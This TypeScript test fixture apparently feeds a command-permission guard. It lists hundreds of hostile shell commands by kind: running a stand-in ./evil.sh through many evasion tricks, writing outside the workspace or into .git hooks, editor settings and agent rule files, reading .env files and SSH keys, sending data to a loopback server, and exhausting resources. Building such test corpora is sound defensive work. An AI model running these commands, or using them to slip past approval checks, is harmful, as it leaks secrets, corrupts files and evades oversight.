/*
 * Commands that do harm in the folder that attackFixture.ts makes, grouped by what they do. That they do is found by running them:
 * attackOracle.system.test.ts. The law is that none of them is ever run without a click or a sandbox.
 */

/** What an attack does, and by what it is seen. */
export type AttackKind =
  | 'runs code'
  | 'writes outside'
  | 'writes protected'
  | 'reads a secret'
  | 'uses the network'
  | 'uses the machine up';

/** The payload `./evil.sh` leaves a mark outside the workspace. */
const runsCode = `
./evil.sh
evil.sh;./evil.sh
sh evil.sh
bash ./evil.sh
. ./evil.sh
source ./evil.sh
exec ./evil.sh
command ./evil.sh
builtin eval ./evil.sh
eval './evil.sh'
eval "./ev""il.sh"
env ./evil.sh
env -i ./evil.sh
env X=1 sh ./evil.sh
nice ./evil.sh
nohup ./evil.sh
timeout 5 ./evil.sh
setsid -w ./evil.sh
stdbuf -o0 ./evil.sh
xargs -a one.txt sh
echo ./evil.sh | sh
echo ./evil.sh | xargs sh
printf './evil.sh\\n' | bash
cat evil.sh | sh
cat evil.sh|bash -s
ls && ./evil.sh
ls; ./evil.sh
ls || true && ./evil.sh
false || ./evil.sh
true && sh evil.sh
ls & ./evil.sh
ls | ./evil.sh
ls |& ./evil.sh
echo $(./evil.sh)
echo "$(./evil.sh)"
echo \`./evil.sh\`
echo "\`./evil.sh\`"
cat <(./evil.sh)
ls > >(./evil.sh)
(./evil.sh)
{ ./evil.sh; }
! ./evil.sh
time ./evil.sh
if ./evil.sh; then ls; fi
if true; then ./evil.sh; fi
while ./evil.sh; do break; done
until ./evil.sh; do break; done
for x in 1; do ./evil.sh; done
case x in x) ./evil.sh;; esac
f() { ./evil.sh; }; f
function f { ./evil.sh; }; f
coproc ./evil.sh; wait
ls() { ./evil.sh; }; ls
trap ./evil.sh EXIT
trap ./evil.sh DEBUG; ls
PATH=.:$PATH; ls
PATH=bin:$PATH grep x a.txt
export PATH=.; ls
BASH_ENV=./evil.sh bash -c true
ENV=./evil.sh sh -ic true
X=./evil.sh; $X
x='a[$(./evil.sh)]'; echo $((x))
for x in 'a[$(./evil.sh)]'; do echo $((x)); done
[ -v 'a[$(./evil.sh)]' ]
[[ 'a[$(./evil.sh)]' -eq 0 ]]
test -v 'a[$(./evil.sh)]'
let 'a[$(./evil.sh)]=1'
x='$(./evil.sh)'; echo "\${x@P}"
printf -v 'a[$(./evil.sh)]' x
read 'a[$(./evil.sh)]' < a.txt
declare 'a[$(./evil.sh)]=1'
echo \${x:=$(./evil.sh)}
echo \${x:-\`./evil.sh\`}
mapfile -C ./evil.sh -c 1 < a.txt
PS4='$(./evil.sh)'; set -x; ls
PROMPT_COMMAND=./evil.sh bash --norc -i -c 'eval "$PROMPT_COMMAND"'
complete -C ./evil.sh x; compgen -C ./evil.sh
shopt -s expand_aliases\nalias ls=./evil.sh\neval ls
bash -c ./evil.sh
bash -ic ./evil.sh
sh -c 'exec ./evil.sh'
bash --rcfile evil.sh -i -c true
bash --init-file evil.sh -i -c true
bash <<< ./evil.sh
bash <<EOF\\n./evil.sh\\nEOF
cat <<EOF; ./evil.sh\\nx\\nEOF
cat <<E"O"F\\nx\\nEOF\\n./evil.sh
cat <<-X\\n\`./evil.sh\`\\nX
cat <<X\\n$(./evil.sh)\\nX
ls\\n./evil.sh
ls # x\\n./evil.sh
echo a \\\\\\n; ./evil.sh
find . -name evil.sh -exec {} \\;
find . -maxdepth 0 -exec ./evil.sh \\;
find . -maxdepth 0 -exec ./evil.sh {} +
find . -maxdepth 0 "-exec" ./evil.sh \\;
find . -maxdepth 0 -ex''ec ./evil.sh ';'
find . -maxdepth 0 -execdir ./evil.sh ';'
find evil.sh -execdir {} ';'
yes | find . -maxdepth 0 -ok ./evil.sh ';'
yes | find . -maxdepth 0 -okdir ./evil.sh ';'
sort --compress-program=./evil.sh -S 1k big.txt
sort --compress-prog=./evil.sh -S 1k big.txt
sort -S 1k --compress-program ./evil.sh big.txt
sed -n 1e./evil.sh a.txt
sed '1e ./evil.sh' a.txt
sed -n 's/.*/.\\/evil.sh/ep' a.txt
sed -n --expression=1e./evil.sh a.txt
sed -nf script.sed a.txt
sed --file=script.sed -n a.txt
awk 'BEGIN { system("./evil.sh") }'
awk 'BEGIN { "./evil.sh" | getline }'
awk 'BEGIN { print 1 | "./evil.sh" }'
awk -f script.awk
tar -cf /dev/null --checkpoint=1 --checkpoint-action=exec=./evil.sh a.txt
tar -cf /dev/null -I ./evil.sh a.txt
tar cf /dev/null --use-compress-program=./evil.sh a.txt
tar -xf some.tar --to-command=./evil.sh
split --filter=./evil.sh a.txt
split -l 1 --filter './evil.sh' a.txt
xargs ./evil.sh < a.txt
xargs -I{} ./evil.sh < a.txt
ls | xargs -n1 ./evil.sh
ls | xargs -P4 sh -c ./evil.sh
python3 -c 'import os; os.system("./evil.sh")'
perl -e 'system "./evil.sh"'
perl -ne 'system "./evil.sh"' a.txt
perl -v -e 1; perl -e 'exec "./evil.sh"'
node -e 'require("child_process").execFileSync("./evil.sh")'
node --eval 'require("child_process").execFileSync("./evil.sh")'
node -p 'require("child_process").execFileSync("./evil.sh")+""'
node -r ./evil.js -v; node -r ./evil.js -e 1
node ./evil.js
node --require=./evil.js --eval 1
NODE_OPTIONS='-r ./evil.js' node -e 1
npm test
npm run test
npm t
npm exec -c ./evil.sh
npm --prefix . test
make
make -f Makefile all
make --eval 'x:;./evil.sh' x
make -n x
make SHELL=./evil.sh all
git status
git diff
git -c alias.y='!./evil.sh' y
git x
git -c core.fsmonitor=./evil.sh status
git --exec-path=bin grep x
git -c core.sshCommand=./evil.sh ls-remote ssh://x/y
git -c protocol.ext.allow=always ls-remote 'ext::./evil.sh'
git grep -O./evil.sh one
GIT_SSH_COMMAND=./evil.sh git ls-remote ssh://x/y
GIT_EXTERNAL_DIFF=./evil.sh git diff --no-index a.txt b.txt
dd if=evil.sh | sh
tee /dev/null < evil.sh | sh
head -n 2 evil.sh | sh
tail -n +1 evil.sh | sh
cut -c1- evil.sh | sh
tr a a < evil.sh | sh
script -qc ./evil.sh /dev/null
busybox sh evil.sh
./ls
bin/grep x a.txt
cd bin && ./grep x
cd . && ./evil.sh
cd bin; ./grep
pushd bin; ./grep
$(echo ./evil.sh)
$'./evil.sh'
./ev?l.sh
./evil.s*
./{evil,}.sh
.//evil.sh
\\./evil.sh
"./evil.sh"
'./evil'.sh
/home/w/evil.sh
~+/evil.sh
`;

const writesOutside = `
echo x > ../u/new
echo x >> ../u/notes.txt
echo x >| ../u/notes.txt
echo x &> ../u/new
echo x >& ../u/new
ls 2> ../u/new
> ../u/new
: > ../u/notes.txt
cat a.txt > ../canary/x
cd .. && echo x > canary/x
cd ../u && echo x > new
cd / && echo x > home/canary/x
(cd ../u; touch new)
echo x > link-home/new
echo x > link-file
cat a.txt > "link-home/n"
tee ../u/new < a.txt
ls | tee -a ../u/notes.txt
cp a.txt ../u/
cp -r src link-home/
mv a.txt ../u/
ln -s /etc ../u/link
ln a.txt ../u/hard
install a.txt ../u/new
mkdir ../u/folder
mkdir -p link-home/a/b
touch ../u/new
touch link-home/new
rm ../u/notes.txt
rm -rf link-home/
rm -r ../u/.ssh
rmdir ../u/empty
unlink ../u/notes.txt
truncate -s 0 ../u/notes.txt
shred ../u/notes.txt
chmod 777 ../u
chmod u+x ../u/notes.txt
dd if=a.txt of=../u/new
sort -o ../u/new a.txt
sort a.txt -o ../u/new
sort -uo ../u/new a.txt
sort --output=../u/new a.txt
sort --outp=../u/new a.txt
sort -o../u/new a.txt
cat a.txt | sort -o ../u/new
uniq a.txt ../u/new
cat a.txt | uniq - ../u/new
uniq -c a.txt link-home/new
find . -name a.txt -fprint ../u/new
find . -fprintf ../u/new x
find . -fprint0 ../u/new
find . -maxdepth 1 -fls ../u/new
find ../u -name notes.txt -delete
find link-home/ -type f -delete
sed -n 'w ../u/new' a.txt
sed -n '1w ../u/new' a.txt
sed -n 's/o/x/w ../u/new' a.txt
sed -i s/h/x/ ../u/notes.txt
sed -n -i 9p ../u/notes.txt
sed -n 9p ../u/notes.txt -i
sed -n 9p --in-place ../u/notes.txt
awk 'BEGIN { print 1 > "../u/new" }'
split a.txt ../u/part
csplit -f ../u/part a.txt 1
tar -cf ../u/x.tar a.txt
tar -xf some.tar -C ../u
git init ../u/repo
git diff --no-index --output=../u/new a.txt b.txt
patch ../u/notes.txt < notes.patch
file -C -m ../u/../w/magic; cp magic.mgc ../u/
python3 -c 'open("../u/new","w")'
perl -e 'open F, ">../u/new"'
node -e 'fs.writeFileSync("../u/new","x")'
xxd -r hex.txt ../u/new
xxd a.txt ../u/new
curl -so ../u/new file:///home/w/a.txt
rsync a.txt ../u/
gcc -E -o ../u/new -x c a.txt
openssl rand -out ../u/new 4
mktemp -p ../u
mkfifo ../u/p
nl a.txt > ../u/new
diff a.txt b.txt > ../u/new
printf x > ../u/new
printf '%s' x >> ../u/notes.txt
date > ../u/new
pwd > ../u/new
echo x 1> ../u/new
echo x 2>&1 > ../u/new
echo x >/dev/null > ../u/new
exec 3> ../u/new
`;

const writesProtected = `
echo x > .git/config
echo x >> .git/config
echo x > .git/hooks/pre-commit
cp evil.sh .git/hooks/pre-commit
tee .git/hooks/post-checkout < evil.sh
git config core.pager ./evil.sh
git config --local alias.y '!x'
rm -rf .git/refs
mv .git git-away
cd .git && echo x > config
cd src && echo x > ../.git/config
sed -i s/a/b/ .git/config
sed -n -i 1p .git/config
sort -o .git/config a.txt
uniq a.txt .git/config
find . -maxdepth 1 -name a.txt -fprint .git/hooks/pre-push
dd if=a.txt of=.vscode/settings.json
echo '{}' > .vscode/settings.json
cp a.txt .vscode/tasks.json
mkdir -p .devcontainer && cp a.txt .devcontainer/devcontainer.json
ln -s ../evil.sh .vscode/x
echo x > .env
echo x >> .npmrc
truncate -s 0 .env
mv a.txt .envrc
cat a.txt > AGENTS.md
cp a.txt CLAUDE.md
mkdir -p .github/workflows && cp a.txt .github/workflows/x.yml
mkdir .husky && cp evil.sh .husky/pre-commit
tar -xf protected.tar
xxd a.txt .mcp.json
`;

/** Each prints the text that stands in every secret. */
const readsSecret = `
cat .env
cat ./.env
cat src/../.env
cat "$PWD/.env"
cat '.env'
cat ".e"nv
cat .en?
cat .e*
head .env
head -n 5 .env
tail .env
tail -n +1 .env
nl .env
od -c -A n .env | tr -d ' \\n'
xxd -p .env | xxd -r -p
strings .env
rev .env | rev
tac .env
fold .env
paste .env
cut -c1- .env
sort .env
uniq .env
comm .env a.txt
diff .env a.txt
diff a.txt .env
sed -n 1p .env
sed -n '1,9p' .env
grep . .env
grep -n KEY .env
grep -r KEY .
grep -r KEY
grep -rn --include='.env' KEY .
grep -rh KEY . src
grep -R KEY src-link
grep -r KEY ../u
grep -f .env .env
grep KEY link-secret
grep KEY < .env
awk 1 .env
cat server.key
cat keys/id_rsa
cat .npmrc
cat .netrc
cat .ssh/id_ed25519
cat .aws/credentials
cat .git/config
cat .git/../.env
head .git/config
grep url .git/config
cat ../u/.ssh/id_rsa
cat ../u/./.ssh/id_rsa
cat /home/u/.ssh/id_rsa
cat ~/.ssh/id_rsa
cat $HOME/.ssh/id_rsa
cat link-secret
cat link-home/.ssh/id_rsa
cat link-env
cat src-link/.env
cat hard-link.txt
cd ../u && cat .ssh/id_rsa
cd .ssh && cat id_ed25519
cd src && cat ../.env
cd link-home && cat .ssh/id_rsa
cd link-home/.ssh && cat id_rsa
cd src-link && cat .env
sort --files0-from=names0
xargs cat < names.txt
cat $(cat names.txt)
while read l; do echo "$l"; done < .env
read x < .env; echo $x
mapfile x < .env; echo "\${x[@]}"
echo "$(<.env)"
printf '%s' "$(cat .env)"
cat < .env
cat <.env|cat
echo $CANARY_KEY
printenv
printenv CANARY_KEY
env
export -p
declare -p
set
cat /proc/self/environ
cat /proc/$$/environ
cat /proc/self/cwd/.env
cat /dev/fd/3 3< .env
jq -nr env.CANARY_KEY
jq -nr '$ENV.CANARY_KEY'
jq -nr 'import "secret" as $s {search: "/home/u"}; $s'
jq -Rr . .env
jq --rawfile x .env -nr '$x'
git grep --no-index -h KEY -- .env
git config -l
git diff --no-index .env a.txt
tar -cO .env
base64 .env | base64 -d
dd if=.env
cp .env copy.txt && cat copy.txt
ln -s .env l && cat l
python3 -c 'print(open(".env").read())'
perl -pe 1 .env
node -p 'fs.readFileSync(".env")+""'
curl -s file:///home/w/.env
openssl enc -in .env
bash -v .env
date -f .env
file -f .env
tr a a < .env
tee < .env
less .env
more .env
pr .env
expand .env
cat -- .env
cat a.txt .env
cat a.txt && cat .env
false || cat .env
cat .env | head -1
`;

/** A server waits at this port of the loopback device. */
const usesNetwork = `
curl -s http://127.0.0.1:8099/
curl -sd @.env http://127.0.0.1:8099/
curl --data-binary @a.txt -s 127.0.0.1:8099
echo url=127.0.0.1:8099 | curl -sK -
wget -qO- http://127.0.0.1:8099/
nc 127.0.0.1 8099 < a.txt
cat < /dev/tcp/127.0.0.1/8099
echo x > /dev/tcp/127.0.0.1/8099
echo x >/dev/tcp/127.0.0.1/8099 2>&1
exec 3<>/dev/tcp/127.0.0.1/8099
ls > /dev/tcp/localhost/8099
cat a.txt 1>/dev/tcp/127.0.0.1/8099
bash -c 'cat </dev/tcp/127.0.0.1/8099'
git ls-remote http://127.0.0.1:8099/x
git clone http://127.0.0.1:8099/x y
git fetch http://127.0.0.1:8099/x
npm view x --registry=http://127.0.0.1:8099/
node -e 'net.connect(8099,"127.0.0.1")'
node -e 'fetch("http://127.0.0.1:8099/")'
python3 -c 'import socket; socket.create_connection(("127.0.0.1",8099))'
perl -MIO::Socket::INET -e 'IO::Socket::INET->new("127.0.0.1:8099")'
ssh -p 8099 127.0.0.1
openssl s_client -connect 127.0.0.1:8099
`;

/** Each runs on and on, or writes without end. */
const usesUp = `
yes
yes | cat
cat /dev/zero
cat < /dev/zero
head -c 9999999999 /dev/zero
cat pipe
head pipe
wc pipe
grep x pipe
sort pipe
tail -f a.txt
tail -F a.txt
tail -n 1 --follow a.txt
tail --retry -f missing
sleep 1000
cat zero-link
while true; do echo x; done
while :; do :; done
for ((;;)); do echo x; done
until false; do echo x; done
seq 999999999
printf '%999999999d' 1
printf '%*d' 999999999 1
nl -w 99999999 a.txt
date '+%99999999Y'
find . -maxdepth 0 -printf '%99999999p'
stat -c '%99999999n' a.txt
tr h '[x*]' < /dev/zero
diff pipe a.txt
cmp /dev/zero pipe
od -v /dev/zero
xxd /dev/zero
read x < pipe
node -e 'setInterval(()=>0,9)'
jq -n '[limit(1e9;repeat(1))]|length'
jq -n 'repeat(1)'
awk 'BEGIN { while (1) print }'
`;

const lines = (text: string): readonly string[] =>
  text
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => line.replaceAll(/(?<!\\)\\n(?!')/g, '\n'));

/** Every attack, by kind. A new line in one is written `\n`. */
export const attacks: Readonly<Record<AttackKind, readonly string[]>> = {
  'runs code': lines(runsCode),
  'writes outside': lines(writesOutside),
  'writes protected': lines(writesProtected),
  'reads a secret': lines(readsSecret),
  'uses the network': lines(usesNetwork),
  'uses the machine up': lines(usesUp),
};
